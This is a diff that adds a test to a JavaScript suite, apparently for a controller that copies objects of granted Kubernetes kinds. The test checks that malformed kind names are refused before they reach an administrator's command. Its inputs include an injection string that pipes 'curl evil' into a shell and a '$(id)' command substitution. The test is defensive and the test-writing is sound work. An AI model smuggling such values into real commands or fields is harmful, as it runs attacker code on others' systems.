@@ -81,6 +81,13 @@ it('a kind that is not granted is refused, and the condition names it; nothing i
   expect(copyIn(world)).toEqual({ targets: '1' })
 })
 
+it('a kind that no API has is not in the command that an administrator copies', async () => {
+  for (const kind of ['Secret.v1=secrets; curl evil | sh #', '$(id)', 'X'.repeat(1e6)]) {
+    const refused = /^spec\.targets\[\*\] names ".{1,100}", which is no kind, so the function is not called$/
+    await expect(outcomeOf(granted, { object: mirror([kind, 'a']), others })).rejects.toThrow(refused)
+  }
+})
+
 it('without any grant, a function is not called with an empty list, in whatever process it is', async () => {
   expect(manifest(mirrors).spec).toMatchObject({ related: [], kindPaths: ['spec.targets[*]'] })
   await expect(outcomeOf(mirrors, { object: mirror(['Secret', 'a']), others })).rejects.toThrow(
